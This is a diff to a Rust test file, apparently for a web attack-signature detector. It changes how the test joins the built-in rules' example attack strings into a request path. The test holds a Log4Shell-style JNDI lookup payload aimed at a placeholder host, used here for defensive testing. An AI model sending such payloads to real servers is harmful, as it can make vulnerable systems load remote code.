@@ -357,12 +357,8 @@ fn cookies_are_judged_once_for_a_client() {
 #[test]
 fn what_is_not_judged_is_not_remembered() {
     let signatures = signatures(&AttackSignaturesSettings::default());
-    let attacks: String = built_in()
-        .iter()
-        .flat_map(|rule| &rule.examples.matches)
-        .map(|example| example.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>())
-        .collect::<Vec<_>>()
-        .join("/");
+    let attacks = built_in().iter().flat_map(|rule| &rule.examples.matches);
+    let attacks = attacks.map(String::as_str).collect::<Vec<_>>().join("/");
     let note = "${jndi:ldap://x.example/a}";
     for path in ["/", &attacks, &attacks, &attacks, "/"] {
         let denied = Exchange::get(path)
